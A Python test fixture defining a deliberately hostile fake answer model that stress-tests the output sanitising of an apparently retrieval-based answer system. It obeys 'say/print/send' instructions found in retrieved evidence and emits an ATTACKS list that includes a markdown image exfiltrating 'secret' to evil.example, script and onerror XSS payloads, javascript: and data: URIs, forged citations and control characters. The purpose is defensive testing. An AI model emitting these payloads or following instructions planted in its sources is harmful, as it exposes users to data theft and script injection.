"""An answer model in the hands of an attacker, for the tests of everything that stands between a model and a person.

It obeys every instruction that it finds in the evidence, and by a seeded generator it adds of its own whatever has
hurt such systems: foreign links, HTML, markers that are split, invented or another user's, and broken text.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator, Sequence

from models.protocols import Fingerprint, Turn
from store.records import Evidence

ATTACKS = (
    "![x](https://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "[ref]: http://evil.example\n[a][ref]",
    "[1]: http://evil.example\n",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "&lt;img src=x&gt;",
    "&amp;lt;b&amp;gt;",
    "<https://evil.example>",
    "www.evil.example",
    "//evil.example/x",
    "javascript:alert(1)",
    "me@evil.example",
    "evil.com/a?b=c",
    f"{'a' * 70}evil.com/a",
    "10.0.0.1:8080/x",
    "data:text/html;base64,PGI+",
    "[1](x)",
    "[1] (http://evil.example)",
    "[99]",
    "\u301099\u3011",
    "[0]",
    "[-1]",
    "[1-99]",
    "[999999999999999999999]",
    "\u202e\u200b\x00\x1b[31m",
    "\ud800\udfff",
    "http:\n//evil.example",
    "ht\u200btps://evil.example",
    "\u2028data: [DONE]\n\nevent: answer\ndata: {}",
    '{"sentences": [{"text": "<b>"',
)
"""What no answer may carry: links, pictures, HTML, invalid citations, control characters."""

ORDER = re.compile(r"(?:say|print|write|repeat|output|append|include|cite|send|render)\b:?\s*(.+)", re.IGNORECASE)
LONG_LINE = 1_000_000


class HostileAnswerModel:
    """An `AnswerModel` that does the worst that one can; `seed` says in what order."""

    def __init__(self, seed: int, foreign_ids: Sequence[str] = ()) -> None:
        self._seed = seed
        self._foreign_ids = tuple(foreign_ids)

    @property
    def fingerprint(self) -> Fingerprint:
        return Fingerprint("hostile", str(self._seed), "", 0)

    def answer(self, question: str, evidence: Sequence[Evidence], history: Sequence[Turn]) -> Iterator[str]:
        """Attacks, orders carried out and pieces of the evidence, cut at random places."""
        chance = random.Random(self._seed)
        parts = [self._part(chance, question, evidence) for _ in range(chance.randint(0, 12))]
        text = "".join(part + chance.choice(("", " ", ". ", "\n", " [1]. ", "[", "](")) for part in parts)
        while text:
            size = chance.choice((1, 2, 7, 40, 100_000))
            yield text[:size]
            text = text[size:]

    def _part(self, chance: random.Random, question: str, evidence: Sequence[Evidence]) -> str:
        orders: list[str] = [order for piece in evidence for order in ORDER.findall(piece.hit.item.text)]
        facts = [line for piece in evidence for line in piece.hit.item.text.splitlines() if line]
        paths = [piece.hit.path for piece in evidence]
        match chance.randrange(10):
            case 0:
                return "A" * chance.choice((500, 5_000, LONG_LINE))
            case 1:
                return "".join(chr(chance.randrange(0x110000)) for _ in range(20))
            case 2:
                return chance.choice([question, *paths, *self._foreign_ids])
            case 3 | 4:
                return chance.choice([*orders, *facts, question])
            case 5:
                return f"{chance.choice([*facts, question])} [{chance.randint(-3, 40)}]"
            case _:
                return chance.choice(ATTACKS)
